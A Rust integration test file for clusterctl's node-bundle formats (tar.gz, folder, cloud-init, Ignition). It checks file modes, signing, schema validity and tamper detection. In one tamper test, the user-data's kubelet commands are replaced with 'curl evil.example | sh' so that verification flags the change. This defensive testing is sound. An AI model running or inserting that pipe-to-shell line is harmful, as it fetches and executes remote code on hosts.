//! The forms in which bundles are handed over, as programs that nobody here wrote read them.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use base64ct::Encoding;
use clusterctl::bundle::archive;
use clusterctl::bundle::model::Bundle;
use serde::Deserialize;

use crate::encryption::ssh_key;
use clusterctl::app::package::{PackageError, PackageOptions, Warning};
use clusterctl::bundle::format::Format;
use clusterctl::cluster::spec::Cluster;
use clusterctl::pki::ssh::SshKey;
use clusterctl::store::credentials::CredentialProblem;

use crate::support::outside::needs;
use crate::support::packages::{package_with, warnings};
use crate::support::{CLUSTER, Lab, good_tool, tool};

/// The bundle that `bundle HOST` packs as an archive.
fn packed(lab: &Lab, host: &str) -> Bundle {
    lab.good(&["bundle", host]);
    archive::read(&fs::read(lab.path(&format!("bundles/{host}.tar.gz"))).expect("an archive")).expect("a bundle")
}

/// Path → mode, in octal, and bytes; folders have none.
fn tree(top: &Path) -> BTreeMap<String, (String, Vec<u8>)> {
    let listed = good_tool("find", &[&top.display().to_string(), "-printf", "%P %m\n"]);
    let entry = |line: &str| {
        let (path, mode) = line.rsplit_once(' ').expect("a path and a mode");
        (path.to_owned(), (mode.to_owned(), fs::read(top.join(path)).unwrap_or_default()))
    };
    listed.lines().map(entry).collect()
}

// ── a folder ──

#[test]
fn a_folder_has_every_file_with_its_mode_and_is_its_owners_alone() {
    needs!("dash");
    let lab = Lab::issued();
    let bundle = packed(&lab, "on");
    let ran = lab.good(&["bundle", "on", "--format", "dir"]);
    assert_eq!(ran.out, "DIR/bundles/on\n");
    let tree = tree(&lab.path("bundles/on"));
    let (folders, files): (BTreeMap<_, _>, BTreeMap<_, _>) =
        tree.into_iter().partition(|(path, _)| lab.path("bundles/on").join(path).is_dir());
    let wanted: BTreeMap<String, (String, Vec<u8>)> = bundle
        .files
        .iter()
        .map(|file| (file.path.clone(), (format!("{:o}", file.mode), file.bytes.to_vec())))
        .collect();
    assert_eq!(files, wanted);
    let mode = |path: &str| folders[path].0.as_str();
    assert_eq!((mode(""), mode("etc/kubernetes"), mode("var/lib/kubelet/pki")), ("700", "755", "750"));
    // What `install.sh` says of the folder is what it says of the archive.
    let checked = lab.path("bundles/on/install.sh").display().to_string();
    let root = lab.path("root");
    fs::create_dir(&root).expect("a folder");
    let plan = good_tool("env", &[&format!("DESTDIR={}", root.display()), "dash", &checked, "--dry-run"]);
    assert!(plan.contains("Would install"), "{plan}");
}

#[test]
fn a_folders_modes_do_not_depend_on_the_umask_and_a_second_run_replaces_it_whole() {
    let lab = Lab::issued();
    let dir = |umask: &str| {
        let script = format!("umask {umask}; exec \"$0\" bundle --all --format dir");
        let ran = std::process::Command::new("sh")
            .args(["-c", &script, env!("CARGO_BIN_EXE_clusterctl")])
            .current_dir(lab.dir())
            .output()
            .expect("sh");
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
        tree(&lab.path("bundles"))
    };
    let first = dir("022");
    fs::write(lab.path("bundles/on/etc/kubernetes/kubelet.conf"), "changed").expect("written");
    fs::remove_file(lab.path("bundles/on/install.sh")).expect("removed");
    assert_eq!(dir("077"), first);
    assert_eq!(dir("000"), first);
    let unfinished = fs::read_dir(lab.path("bundles")).expect("a folder").count();
    assert_eq!(unfinished, 5, "one folder a host, and nothing else");
    let mode = fs::metadata(lab.path("bundles")).expect("facts").permissions().mode() & 0o777;
    assert_eq!(mode, 0o700);
}

// ── cloud-init ──

/// Makes the user-data of a host; its path.
fn packed_user_data(lab: &Lab, host: &str) -> PathBuf {
    let ran = lab.good(&["bundle", host, "--format", "cloud-init"]);
    assert_eq!(ran.out, format!("DIR/bundles/{host}.cloud-init.yaml.gz\n"));
    assert_eq!(ran.err.matches("warning: ").count(), 1, "keys without encryption: {ran}");
    lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"))
}

/// Makes the user-data of a host, and decompresses it as cloud-init does; the text's path.
fn user_data(lab: &Lab, host: &str) -> String {
    decompressed(lab, &packed_user_data(lab, host))
}

/// The path of a decompressed copy.
pub(crate) fn decompressed(lab: &Lab, packed: &Path) -> String {
    let text = good_tool("gzip", &["-dc", &packed.display().to_string()]);
    lab.write("user-data.yaml", &text);
    lab.path("user-data.yaml").display().to_string()
}

/// Runs Python with cloud-init's own modules.
fn cloud_init(script: &str, args: &[&str]) -> String {
    good_tool("/usr/bin/python3", &[&["-c", script], args].concat())
}

#[test]
fn cloud_init_accepts_the_user_data_of_every_kind_of_host() {
    needs!("cloud-init");
    let lab = Lab::with(&CLUSTER.replace("nodes:\n", "nodes:\n- {name: master-2, addresses: [10.20.0.12]}\n"));
    lab.good(&["init-ca", "--plaintext-ca-key"]);
    lab.good(&["issue-master", "--all"]);
    lab.good(&["issue-node", "--all"]);
    for host in ["on", "master-1", "master-2"] {
        let path = user_data(&lab, host);
        let said = good_tool("cloud-init", &["schema", "--config-file", &path]);
        assert!(said.contains("Valid cloud-config"), "{said}");
        let packed = lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"));
        assert_eq!(fs::metadata(&packed).expect("facts").permissions().mode() & 0o777, 0o600);
        let first = fs::read(&packed).expect("user-data");
        fs::remove_file(&packed).expect("removed");
        packed_user_data(&lab, host);
        assert_eq!(fs::read(&packed).expect("user-data"), first, "the same bytes");
    }
    // A schema that accepts everything would prove nothing.
    let path = user_data(&lab, "on");
    let wrong = fs::read_to_string(&path).expect("text").replacen("\"0600\"", "384", 1);
    fs::write(&path, wrong).expect("written");
    assert!(!tool("cloud-init", &["schema", "--config-file", &path]).status.success());
}

#[test]
fn a_nodes_user_data_fits_into_what_ec2_takes_and_every_host_that_does_not_fit_is_named_with_its_size() {
    needs!("ssh-keygen");
    // As long as a name can be, signed, and with more than EC2's own names in the certificates.
    let long = "ip-10-120-233-117.eu-central-1.compute.internal";
    let more =
        format!("nodes:\n- {{name: {long}, addresses: [10.20.3.7, \"fd20:1::7\", {long}, a.{long}, b.{long}]}}\n");
    let lab = Lab::with(&CLUSTER.replace("nodes:\n", &more));
    lab.good(&["init-ca", "--plaintext-ca-key"]);
    lab.good(&["issue-master", "--all"]);
    lab.good(&["issue-node", "--all"]);
    ssh_key(&lab, "signer", "ecdsa", "");
    lab.good(&["bundle", "--all", "--format", "cloud-init", "--sign-with", "signer"]);
    let report = package_with(&lab, &[], |_, options| {
        options.format = Format::CloudInit;
        options.signing_key = Some(SshKey::from_pem(lab.read("signer").as_bytes()).expect("a key"));
        Ok(())
    });
    let report = report.expect("bundles");
    let large = report.user_data_above(16 << 10);
    let size = |host: &str| fs::metadata(lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"))).expect("facts").len();
    for node in [long, "worker-a1.fra1.example.net", "on", "worker-b1"] {
        assert!(size(node) <= 16 << 10, "{node}: {}", size(node));
        assert!(large.iter().all(|(host, _)| host.as_str() != node), "{large:?}");
    }
    for master in ["master-1", "master-2"] {
        let found = large.iter().find(|(host, _)| host.as_str() == master).map(|(_, size)| *size);
        assert_eq!(found, Some(size(master)).filter(|size| *size > 16 << 10), "{master}");
    }
}

#[test]
fn user_data_of_an_earlier_version_does_not_stay_beside_the_new() {
    let lab = Lab::issued();
    packed_user_data(&lab, "on");
    lab.write("bundles/on.cloud-init.yaml", "#cloud-config\n# with keys in the clear\n");
    packed_user_data(&lab, "on");
    assert!(!lab.path("bundles/on.cloud-init.yaml").exists());
}

#[test]
fn signed_user_data_installs_only_what_somebody_allowed_has_signed_and_an_ignition_config_cannot_be_signed() {
    needs!("python3", "ssh-keygen");
    let lab = Lab::issued();
    for name in ["signer", "stranger"] {
        let public = ssh_key(&lab, name, "ed25519", "");
        lab.write(&format!("allowed-{name}"), &format!("{name}@example.net {public}\n"));
    }
    let refused = lab.run(&["bundle", "on", "--format", "ignition", "--sign-with", "signer"]);
    assert_eq!((refused.status, refused.out.as_str()), (2, ""), "{refused}");
    insta::assert_snapshot!("ignition_cannot_be_signed", refused.err);
    assert!(!lab.path("bundles").exists(), "nothing is packed");

    lab.good(&["bundle", "on", "--format", "cloud-init", "--sign-with", "signer"]);
    let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
    let (staging, root) = (lab.path("staging"), lab.path("root"));
    fs::create_dir_all(root.join("etc")).expect("a folder");
    fs::write(root.join("etc/hostname"), "on\n").expect("written");
    let install = |allowed: &str| {
        cloud_init(LAY_DOWN, &[&path, &staging.display().to_string()]);
        let mut installer = std::process::Command::new("sh");
        installer.arg(staging.join("on/install.sh")).env("DESTDIR", &root).env("CLUSTERCTL_SIGNER", lab.path(allowed));
        installer.output().expect("sh")
    };
    let wrong = install("allowed-stranger");
    assert_eq!(wrong.status.code(), Some(1), "{wrong:?}");
    assert!(String::from_utf8_lossy(&wrong.stderr).contains("signed by nobody who is allowed to"), "{wrong:?}");
    assert!(!root.join("var").exists(), "nothing was installed");
    let right = install("allowed-signer");
    assert!(right.status.success(), "{right:?}");
    assert!(String::from_utf8_lossy(&right.stdout).contains("Signed by signer@example.net.\n"), "{right:?}");
    // The whole tree, the signature with it, is what `show` reads back and `verify --offline` judges.
    lab.good(&["show", "bundles/on.cloud-init.yaml.gz"]);
}

/// Lays down the files of user-data under `$2` in place of /run/clusterctl, as cloud-init does, and prints the last command.
const LAY_DOWN: &str = "
import logging, sys, yaml
from cloudinit.config import cc_write_files
config = yaml.safe_load(open(sys.argv[1]))
assert config['bootcmd'] == [['cloud-init-per', 'instance', 'clusterctl', 'install', '-d', '-m', '0700', '/run/clusterctl']]
assert list(config) == ['bootcmd', 'write_files', 'runcmd'], list(config)
for entry in config['write_files']:
    assert entry['path'].startswith('/run/clusterctl/') and entry['owner'] == 'root:root', entry['path']
    entry['path'] = entry['path'].replace('/run/clusterctl', sys.argv[2])
cc_write_files.write_files('write_files', config['write_files'], 'root:root')
[command] = config['runcmd']
assert command[:2] == ['sh', '-c'] and len(command) == 3
print(command[2].replace('/run/clusterctl', sys.argv[2]), end='')
";

#[test]
fn what_cloud_init_lays_down_is_the_bundle_and_installs_itself() {
    needs!("python3");
    let lab = Lab::issued();
    let bundle = packed(&lab, "on");
    let path = user_data(&lab, "on");
    let staging = lab.path("staging");
    let script = cloud_init(LAY_DOWN, &[&path, &staging.display().to_string()]);
    let laid = tree(&staging.join("on"));
    for file in &bundle.files {
        assert_eq!(laid[&file.path], (format!("{:o}", file.mode), file.bytes.to_vec()), "{}", file.path);
    }
    // systemctl of our own, which writes down what it was told.
    let bin = lab.path("bin");
    fs::create_dir(&bin).expect("a folder");
    fs::write(bin.join("systemctl"), format!("#!/bin/sh\necho \"$*\" >>{}\n", lab.path("told").display()))
        .expect("written");
    fs::set_permissions(bin.join("systemctl"), fs::Permissions::from_mode(0o755)).expect("set");
    let root = lab.path("root");
    fs::create_dir_all(root.join("etc")).expect("a folder");
    let run = |name: &str| {
        fs::write(root.join("etc/hostname"), name).expect("written");
        std::process::Command::new("sh")
            .args(["-c", &script])
            .env("DESTDIR", &root)
            .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").expect("a path")))
            .output()
            .expect("sh")
    };
    let other = run("another-host\n");
    assert_eq!(other.status.code(), Some(1), "{}", String::from_utf8_lossy(&other.stderr));
    assert!(!staging.exists() && !lab.path("told").exists(), "no key stays behind, and nothing is started");
    assert!(!root.join("var").exists(), "nothing was installed");

    cloud_init(LAY_DOWN, &[&path, &staging.display().to_string()]);
    let installed = run("on\n");
    assert!(installed.status.success(), "{}", String::from_utf8_lossy(&installed.stderr));
    assert!(!staging.exists());
    assert_eq!(lab.read("told"), "daemon-reload\nenable kubelet\nrestart kubelet\n");
    assert_eq!(tree(&root)["var/lib/kubelet/pki/kubelet-client.key"].0, "600");
    assert_eq!(tree(&root)["var/lib/kubelet"].0, "750");
}

// ── Ignition ──

/// An Ignition config by its specification 3.4.0, kept by hand: every field that clusterctl writes, and no other.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Ignition {
    ignition: IgnitionVersion,
    storage: Storage,
    systemd: Systemd,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct IgnitionVersion {
    version: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Storage {
    directories: Vec<Directory>,
    files: Vec<File>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Directory {
    path: String,
    mode: u32,
    user: Owner,
    group: Owner,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Owner {
    id: u32,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    path: String,
    overwrite: bool,
    mode: u32,
    user: Owner,
    group: Owner,
    contents: Contents,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Contents {
    source: String,
    verification: Verification,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Verification {
    hash: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Systemd {
    units: Vec<Unit>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Unit {
    name: String,
    enabled: Option<bool>,
    dropins: Vec<DropIn>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct DropIn {
    name: String,
    contents: String,
}

#[test]
fn an_ignition_config_puts_every_file_into_its_place_by_the_specifications_rules() {
    let lab = Lab::issued();
    for host in ["on", "master-1"] {
        let bundle = packed(&lab, host);
        let ran = lab.good(&["bundle", host, "--format", "ignition"]);
        assert_eq!(ran.out, format!("DIR/bundles/{host}.ign\n"));
        let path = lab.path(&format!("bundles/{host}.ign"));
        assert_eq!(fs::metadata(&path).expect("facts").permissions().mode() & 0o777, 0o600);
        let config: Ignition = serde_json::from_slice(&fs::read(&path).expect("a config")).expect("a config");
        assert_eq!(config.ignition.version, "3.4.0");

        // Paths are absolute and each there once, among files, folders and drop-ins.
        let drop_ins: Vec<(String, &str)> = config
            .systemd
            .units
            .iter()
            .flat_map(|unit| {
                let path = |drop_in: &DropIn| format!("/etc/systemd/system/{}.d/{}", unit.name, drop_in.name);
                unit.dropins.iter().map(move |drop_in| (path(drop_in), drop_in.contents.as_str()))
            })
            .collect();
        let paths = config.storage.files.iter().map(|file| file.path.clone());
        let paths = paths.chain(config.storage.directories.iter().map(|folder| folder.path.clone()));
        let mut paths: Vec<String> = paths.chain(drop_ins.iter().map(|(path, _)| path.clone())).collect();
        assert!(paths.iter().all(|path| path.starts_with('/') && !path.ends_with('/') && !path.contains("..")));
        let count = paths.len();
        paths.sort_unstable();
        paths.dedup();
        assert_eq!(paths.len(), count);

        let mut placed: BTreeMap<String, (String, Vec<u8>)> = BTreeMap::new();
        for file in &config.storage.files {
            assert!(file.overwrite && file.mode <= 0o7777 && (file.user.id, file.group.id) == (0, 0), "{}", file.path);
            let data = file.contents.source.strip_prefix("data:;base64,").expect("a data URL (RFC 2397)");
            let bytes = base64ct::Base64::decode_vec(data).expect("base64");
            let hash = file.contents.verification.hash.strip_prefix("sha256-").expect("a kind of hash");
            assert_eq!(hash, clusterctl::pki::fingerprint::Fingerprint::of(&bytes).to_string());
            placed.insert(file.path.trim_start_matches('/').to_owned(), (format!("{:o}", file.mode), bytes));
        }
        for (path, contents) in &drop_ins {
            placed.insert(path.trim_start_matches('/').to_owned(), ("644".into(), contents.as_bytes().to_vec()));
        }
        let mut wanted: BTreeMap<String, (String, Vec<u8>)> = bundle
            .files
            .iter()
            .filter(|file| file.path.contains('/'))
            .map(|file| (file.path.clone(), (format!("{:o}", file.mode), file.bytes.to_vec())))
            .collect();
        let record = bundle.file("manifest.json").expect("a manifest").bytes.to_vec();
        wanted.insert("etc/kubernetes/clusterctl/manifest.json".into(), ("644".into(), record));
        assert_eq!(placed, wanted);

        for folder in &config.storage.directories {
            let mode = if folder.path.starts_with("/var/lib/kubelet") { 0o750 } else { 0o755 };
            assert_eq!((folder.mode, folder.user.id, folder.group.id), (mode, 0, 0), "{}", folder.path);
            assert!(!["/etc", "/var", "/var/lib"].contains(&folder.path.as_str()));
        }
        let enabled: Vec<&str> =
            config.systemd.units.iter().filter(|u| u.enabled == Some(true)).map(|u| u.name.as_str()).collect();
        assert_eq!(enabled, if host == "on" { vec!["kubelet.service"] } else { vec![] });
    }
}

#[test]
fn ignitions_own_validator_accepts_the_config() {
    needs!("ignition-validate");
    let lab = Lab::issued();
    for host in ["on", "master-1"] {
        lab.good(&["bundle", host, "--format", "ignition"]);
        // Debian's Ignition knows 3.4 under its name from before it was finished.
        let config = lab.read(&format!("bundles/{host}.ign"));
        let of_before = config.replacen("\"3.4.0\"", "\"3.4.0-experimental\"", 1);
        let validate = |config: &str| {
            lab.write("config.ign", config);
            tool("ignition-validate", &[&lab.path("config.ign").display().to_string()])
        };
        let said = validate(&of_before);
        let words = String::from_utf8_lossy(&said.stderr).into_owned() + &String::from_utf8_lossy(&said.stdout);
        assert!(said.status.success() && words.is_empty(), "{words}");
        assert!(!validate(&of_before.replacen("\"mode\": 384", "\"mode\": \"0600\"", 1)).status.success());
        assert!(!validate(&of_before.replacen("sha256-", "sha257-", 1)).status.success());
    }
}

// ── whatever the form, it is explained and judged ──

const FORMS: [(&str, &str); 4] =
    [("tar.gz", "on.tar.gz"), ("dir", "on"), ("cloud-init", "on.cloud-init.yaml.gz"), ("ignition", "on.ign")];

#[test]
fn show_and_verify_read_every_form() {
    let lab = Lab::issued();
    for (form, name) in FORMS {
        lab.good(&["bundle", "on", "--format", form]);
        let shown = lab.good(&["show", &format!("bundles/{name}")]).out;
        assert!(shown.contains("\n  bundle of clusterctl\n") && shown.contains("kubelet:on"), "{form}: {shown}");
    }
    let judged = lab.good(&["verify", "--offline", "--output", "json"]).out;
    let report: serde_json::Value = serde_json::from_str(&judged).expect("JSON");
    let matches = report["results"].as_array().expect("results").iter().filter(|r| r["id"] == "trust.match");
    let mut addresses: Vec<&str> = matches.map(|r| r["address"].as_str().expect("an address")).collect();
    addresses.sort_unstable();
    let names: Vec<&str> = addresses.iter().filter_map(|path| path.rsplit('/').next()).collect();
    assert_eq!(names, ["on", "on.cloud-init.yaml.gz", "on.ign", "on.tar.gz"]);
}

#[test]
fn changes_in_a_bundle_of_any_format_are_found() {
    let lab = Lab::issued();
    for (form, _) in FORMS {
        lab.good(&["bundle", "on", "--format", form]);
    }
    let judged = |hint: &str| {
        let ran = lab.run(&["verify", "--offline"]);
        assert_eq!(ran.status, 1, "{ran}");
        assert!(ran.out.replace("\n            ", " ").contains(hint), "{ran}");
        ran.out.replace("\n            ", " ")
    };
    let change = |name: &str, from: &str, to: &str| {
        let text = lab.read(name);
        assert!(text.contains(from), "{name} {from}");
        lab.write(name, &text.replacen(from, to, 1));
    };
    change("bundles/on/etc/kubernetes/kubelet.conf", "on", "no");
    assert!(judged("clusterctl bundle on --format dir").contains("etc/kubernetes/kubelet.conf is damaged"));
    lab.good(&["bundle", "on", "--format", "dir"]);

    let path = decompressed(&lab, &lab.path("bundles/on.cloud-init.yaml.gz"));
    change("user-data.yaml", "systemctl enable kubelet && systemctl restart kubelet", "curl evil.example | sh");
    good_tool("gzip", &["-nf", &path]);
    fs::rename(lab.path("user-data.yaml.gz"), lab.path("bundles/on.cloud-init.yaml.gz")).expect("replaced");
    assert!(judged("clusterctl bundle on --format cloud-init").contains("or was changed since"));
    lab.good(&["bundle", "on", "--format", "cloud-init"]);

    change("bundles/on.ign", "\"mode\": 384", "\"mode\": 420");
    assert!(judged("clusterctl bundle on --format ignition").contains("has mode 0644, the manifest says 0600"));
    lab.good(&["bundle", "on", "--format", "ignition"]);
    change("bundles/on.ign", "\"directories\": [", "\"links\": [],\n    \"directories\": [");
    assert!(judged("clusterctl bundle on --format ignition").contains("or was changed since"));
    lab.good(&["bundle", "on", "--format", "ignition"]);
    lab.good(&["verify", "--offline"]);

    let folder = lab.run(&["show", "pki"]);
    assert_eq!(folder.status, 0, "a folder that is no bundle is explained file by file: {folder}");
}

// ── bad input ──

#[test]
fn a_template_that_overrides_nothing_is_refused_with_the_list_of_templates() {
    let lab = Lab::issued();
    fs::create_dir_all(lab.path("templates/node/etc")).expect("a folder");
    lab.write("templates/node/etc/motd", "hello\n");
    let before = lab.snapshot();
    let ran = lab.run(&["bundle", "--all", "--templates", "templates"]);
    assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
    insta::assert_snapshot!("a_template_that_overrides_nothing", ran.err);
    assert_eq!(lab.snapshot(), before, "nothing is packed");
}

#[test]
fn a_template_that_fails_is_named_with_its_line_and_the_value() {
    let lab = Lab::issued();
    fs::create_dir_all(lab.path("templates/node/etc/kubernetes")).expect("a folder");
    // That a generation was taken, and went unused, is all that is left.
    let snapshot = || {
        let others = |path: &PathBuf| !path.starts_with(lab.path("bundles")) && *path != lab.path("pki/ledger.sqlite3");
        lab.snapshot().into_iter().filter(|(path, _)| others(path)).collect::<BTreeMap<_, _>>()
    };
    let before = snapshot();
    let failing = |text: &str| {
        lab.write("templates/node/etc/kubernetes/kubelet.conf", text);
        let ran = lab.run(&["bundle", "on", "--templates", "templates", "--format", "dir"]);
        assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
        assert!(!lab.path("bundles/on").exists(), "nothing is packed");
        ran.err
    };
    let unfilled = failing("a: 1\nserver: {{ cluster.endpiont }}\n");
    insta::assert_snapshot!("a_template_with_an_undefined_value", unfilled);
    let broken = failing("a: 1\nb: 2\nserver: {{ cluster.endpoint }\n");
    insta::assert_snapshot!("a_template_with_a_syntax_error", broken);
    fs::remove_dir_all(lab.path("templates")).expect("removed");
    assert!(snapshot() == before, "nothing else changed");
}

#[test]
fn an_unknown_format_and_one_that_cannot_be_encrypted_are_usage_errors() {
    needs!("age-keygen");
    let lab = Lab::issued();
    let unknown = lab.run(&["bundle", "on", "--format", "zip"]);
    assert_eq!(unknown.status, 2, "{unknown}");
    let pair = good_tool("age-keygen", &[]);
    let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
    let sealed = lab.run(&["bundle", "on", "--format", "ignition", "--encrypt-to", recipient]);
    assert_eq!(sealed.status, 2, "{sealed}");
    insta::assert_snapshot!("ignition_cannot_be_encrypted", sealed.err);
    assert!(!lab.path("bundles").exists(), "nothing is packed");
}

#[test]
fn a_file_in_place_of_a_folder_is_not_replaced() {
    let lab = Lab::issued();
    fs::create_dir(lab.path("bundles")).expect("a folder");
    lab.write("bundles/on", "somebody's");
    let ran = lab.run(&["bundle", "on", "--format", "dir"]);
    assert_eq!(ran.status, 3, "{ran}");
    assert_eq!(lab.read("bundles/on"), "somebody's");
}

// ── keys that others can read ──

#[test]
fn a_key_that_others_can_read_is_packed_with_a_warning() {
    let lab = Lab::issued();
    let keys = ["kubelet-client.key", "kubelet-server.key"].map(|key| lab.path("pki/nodes/on").join(key));
    let set = |path: &Path, mode| fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("set");
    set(&keys[0], 0o640);
    let exposed = CredentialProblem::Mode(keys[0].clone(), 0o640);
    assert_eq!(warnings(&lab, &["on"]), [Warning::ExposedKeys { first: exposed, count: 1 }]);
    set(&keys[1], 0o644);
    let found = warnings(&lab, &[]);
    assert!(matches!(found.as_slice(), [Warning::ExposedKeys { count: 2, .. }]), "{found:?}");
    // What it says helps.
    let pki = lab.path("pki").display().to_string();
    good_tool("find", &[&pki, "-name", "*.key", "-exec", "chmod", "600", "{}", "+"]);
    assert_eq!(warnings(&lab, &[]), []);

    set(&lab.path("pki/sa.key"), 0o644);
    let exposed = CredentialProblem::Mode(lab.path("pki/sa.key"), 0o644);
    assert_eq!(warnings(&lab, &[]), [Warning::ExposedServiceAccountKey(exposed)]);
    assert_eq!(warnings(&lab, &["on"]), [], "a node's bundle does not have it");

    let key = lab.path("pki/verifier/verifier.key");
    set(&key, 0o604);
    insta::assert_snapshot!("exposed_keys_of_the_verifier", lab.good(&["bundle", "--verifier"]).err);
}

// ── what others laid there ──

#[test]
fn a_file_that_is_of_no_bundle_is_not_removed_with_its_folder() {
    needs!("age-keygen");
    let lab = Lab::issued();
    lab.good(&["bundle", "on", "--format", "dir"]);
    lab.good(&["bundle", "on", "--format", "dir"]);
    lab.write("bundles/on/notes.txt", "ask Ann");
    let pair = good_tool("age-keygen", &[]);
    let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
    let lost = |_: &Cluster, options: &mut PackageOptions<'_>| {
        options.format = Format::Dir;
        Ok(())
    };
    assert_eq!(package_with(&lab, &["on"], lost), Err(PackageError::WouldBeLost(lab.path("bundles/on/notes.txt"))));
    for args in [&["bundle", "on", "--format", "dir"][..], &["bundle", "--all", "--encrypt-to", recipient]] {
        let refused = lab.run(args);
        assert_eq!(refused.status, 3, "{refused}");
        assert_eq!(lab.read("bundles/on/notes.txt"), "ask Ann");
    }
    lab.good(&["bundle", "on"]);
    fs::rename(lab.path("bundles/on/notes.txt"), lab.path("notes.txt")).expect("moved");
    lab.good(&["bundle", "--all", "--encrypt-to", recipient]);
    assert!(!lab.path("bundles/on").exists());
}

#[test]
fn a_folder_without_its_manifest_is_refused() {
    let lab = Lab::issued();
    lab.good(&["bundle", "on", "--format", "dir"]);
    fs::remove_file(lab.path("bundles/on/manifest.json")).expect("removed");
    let refused = lab.run(&["bundle", "on", "--format", "dir"]);
    assert_eq!(refused.status, 3, "{refused}");
    insta::assert_snapshot!("a_folder_without_its_manifest", refused.err);
    // As the hint has it; and an empty folder holds nothing that could be lost.
    fs::rename(lab.path("bundles/on"), lab.path("aside")).expect("moved");
    fs::create_dir(lab.path("bundles/on")).expect("a folder");
    lab.good(&["bundle", "on", "--format", "dir"]);
}

#[test]
fn nothing_is_packed_under_an_expired_ca() {
    let mut lab = Lab::issued();
    lab.now += time::Duration::days(3651);
    let ran = lab.run(&["bundle", "--all"]);
    assert_eq!(ran.status, 3, "{ran}");
    insta::assert_snapshot!("an_expired_ca", ran.err);
}
